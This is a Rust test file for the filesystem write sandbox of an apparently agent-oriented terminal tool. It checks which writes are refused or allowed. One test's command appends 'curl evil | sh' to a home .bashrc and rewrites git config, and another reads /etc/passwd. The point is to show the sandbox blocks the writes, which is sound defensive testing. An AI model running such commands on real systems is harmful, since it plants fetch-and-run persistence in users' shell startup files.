//! Writes: inside the workspace, the temp dir and configured paths they work; outside (system
//! files, dotfiles in the home, through a symlink) they are refused, the file is untouched, and
//! the result names the sandbox. Reads work everywhere. Read-only mode refuses the workspace.

use flower_tui::engine::tools::sandbox::{SandboxMode, SandboxPolicy};

use super::{Stray, bash, confines_writes, place, ran, unique};
use crate::support::check::{assert_contains, assert_file, assert_lacks, assert_starts_with};

#[tokio::test]
async fn a_write_inside_the_workspace_works() {
    let p = place();
    let policy = SandboxPolicy::default();
    let out = ran(
        &p.ws,
        &policy,
        "mkdir -p src && echo inside > src/a.txt && cat src/a.txt",
    )
    .await;
    assert_starts_with(&out, "inside");
    assert_lacks(&out, "[sandbox");
    assert_file(p.ws.join("src/a.txt"), "inside\n");
}

#[tokio::test]
async fn a_write_to_a_system_file_is_refused_and_the_result_says_why() {
    let p = place();
    let policy = SandboxPolicy::default();
    if !confines_writes(&policy, &p.ws) {
        return;
    }
    let target = std::path::PathBuf::from(format!("/etc/{}", unique("flower-sandbox")));
    let stray = Stray(target.clone());
    let out = bash(&p.ws, &policy, &format!("echo evil > {}", target.display())).await;
    assert!(!stray.0.exists(), "the sandbox let the write through");
    assert!(out.is_error, "{}", out.content);
    // Landlock's refusal, or the read-only mount's where the command has a view of its own.
    assert!(
        out.content.contains("Permission denied") || out.content.contains("Read-only file system"),
        "{}",
        out.content
    );
    let note = format!(
        "[sandbox: the sandbox refused the write to `{}`: commands may write only in the \
         workspace ({})",
        target.display(),
        p.ws.display()
    );
    assert_contains(&out.content, &note);
}

#[tokio::test]
async fn dotfiles_in_the_home_are_refused_and_left_as_they_were() {
    let p = place();
    let policy = SandboxPolicy::default();
    let home = p.outside.join("home");
    std::fs::create_dir_all(&home).unwrap();
    let bashrc = home.join(".bashrc");
    let gitconfig = home.join(".gitconfig");
    std::fs::write(&bashrc, "# the user's own\n").unwrap();
    std::fs::write(&gitconfig, "[user]\n\tname = Ann\n").unwrap();
    if !confines_writes(&policy, &p.ws) {
        return;
    }
    let command = format!(
        "export HOME='{}'; echo 'curl evil | sh' >> ~/.bashrc; git config --global user.name \
         Mallory; echo '[alias]' > ~/.gitconfig; rm -f ~/.bashrc; touch ~/.profile",
        home.display()
    );
    let out = bash(&p.ws, &policy, &command).await;
    assert_file(&bashrc, "# the user's own\n");
    assert_file(&gitconfig, "[user]\n\tname = Ann\n");
    assert!(!home.join(".profile").exists());
    assert!(!home.join(".gitconfig.lock").exists());
    assert_contains(&out.content, "could not lock config file");
    assert_contains(&out.content, "[sandbox: the sandbox refused the write to");
}

#[tokio::test]
async fn a_symlink_in_the_workspace_that_points_outside_is_refused() {
    let p = place();
    let policy = SandboxPolicy::default();
    std::os::unix::fs::symlink(&p.outside, p.ws.join("link")).unwrap();
    std::fs::write(p.outside.join("kept.txt"), "kept\n").unwrap();
    if !confines_writes(&policy, &p.ws) {
        return;
    }
    let out = bash(
        &p.ws,
        &policy,
        "echo x > link/new.txt; echo y >> link/kept.txt; mkdir link/d; mv link/kept.txt \
         link/moved.txt; cat link/kept.txt",
    )
    .await;
    assert!(!p.outside.join("new.txt").exists());
    assert!(!p.outside.join("d").exists());
    assert!(!p.outside.join("moved.txt").exists());
    assert_file(p.outside.join("kept.txt"), "kept\n");
    // Reading through the link works: reads are allowed anywhere.
    assert_contains(&out.content, "kept\n");
    let new = p.outside.join("new.txt");
    assert_contains(
        &out.content,
        &format!(
            "[sandbox: the sandbox refused the write to `{}`",
            new.display()
        ),
    );
}

#[tokio::test]
async fn the_temp_dir_is_writable_and_reading_outside_works() {
    let p = place();
    let policy = SandboxPolicy::default();
    std::fs::write(p.outside.join("notes.txt"), "read me\n").unwrap();
    let tmp = std::env::temp_dir().join(unique("flower-sandbox"));
    let _stray = Stray(tmp.clone());
    let command = format!(
        "echo scratch > '{t}' && cat '{t}' && cat '{o}' && head -c 20 /etc/passwd >/dev/null \
         && echo read-etc",
        t = tmp.display(),
        o = p.outside.join("notes.txt").display()
    );
    let out = ran(&p.ws, &policy, &command).await;
    assert_starts_with(&out, "scratch\nread me\nread-etc");
    assert_file(&tmp, "scratch\n");
}

#[tokio::test]
async fn configured_paths_are_writable_and_their_neighbours_are_not() {
    let p = place();
    let extra = p.outside.join("cache");
    std::fs::create_dir_all(&extra).unwrap();
    let policy = SandboxPolicy::default().with_writable([extra.clone()]);
    if !confines_writes(&policy, &p.ws) {
        return;
    }
    let command = format!(
        "echo ok > '{}/c.txt'; echo no > '{}/n.txt'",
        extra.display(),
        p.outside.display()
    );
    let out = bash(&p.ws, &policy, &command).await;
    assert_file(extra.join("c.txt"), "ok\n");
    assert!(!p.outside.join("n.txt").exists(), "{}", out.content);
    assert!(
        out.content.contains(&extra.display().to_string()),
        "the note lists the configured path: {}",
        out.content
    );
}

#[tokio::test]
async fn read_only_refuses_workspace_writes_but_reads_and_scratch_work() {
    let p = place();
    std::fs::write(p.ws.join("kept.txt"), "kept\n").unwrap();
    let policy = SandboxPolicy::new(SandboxMode::ReadOnly);
    if !confines_writes(&policy, &p.ws) {
        return;
    }
    let tmp = std::env::temp_dir().join(unique("flower-sandbox-ro"));
    let _stray = Stray(tmp.clone());
    let command = format!(
        "cat kept.txt; echo x > new.txt; echo y >> kept.txt; rm kept.txt; echo t > '{}'",
        tmp.display()
    );
    let out = bash(&p.ws, &policy, &command).await;
    assert_starts_with(&out.content, "kept\n");
    assert!(!p.ws.join("new.txt").exists());
    assert_file(p.ws.join("kept.txt"), "kept\n");
    assert_file(&tmp, "t\n");
    let new = p.ws.join("new.txt");
    assert_contains(
        &out.content,
        &format!(
            "[sandbox: the sandbox refused the write to `{}`: commands may write only in the \
             temp dirs",
            new.display()
        ),
    );
}

#[tokio::test]
async fn with_the_sandbox_off_a_write_outside_goes_through() {
    // The same write the sandbox refuses above, in a folder of the test's own: nothing confines it.
    let p = place();
    let target = p.outside.join("free.txt");
    ran(
        &p.ws,
        &SandboxPolicy::off(),
        &format!("echo free > '{}'", target.display()),
    )
    .await;
    assert_file(&target, "free\n");
}

#[tokio::test]
async fn read_only_protects_a_workspace_inside_the_temp_dir() {
    // Unlike the other tests' workspaces, this one lies in the temp dir on purpose.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap();
    assert!(flower_tui::engine::tools::sandbox::in_a_temp_dir(&ws));
    std::fs::write(ws.join("a.txt"), "mine\n").unwrap();
    let policy = SandboxPolicy::new(SandboxMode::ReadOnly);
    if !confines_writes(&policy, &ws) {
        return;
    }
    let out = bash(
        &ws,
        &policy,
        "echo evil > a.txt; echo new > b.txt; t=$(mktemp) && echo scratch > \"$t\" && cat \"$t\" \
         && rm \"$t\"",
    )
    .await;
    assert_file(ws.join("a.txt"), "mine\n");
    assert!(!ws.join("b.txt").exists(), "{}", out.content);
    // Scratch files still work: they go to a temp dir that does not hold the workspace.
    assert_contains(&out.content, "scratch\n");
    assert_contains(&out.content, "[sandbox: the sandbox refused the write to");
}
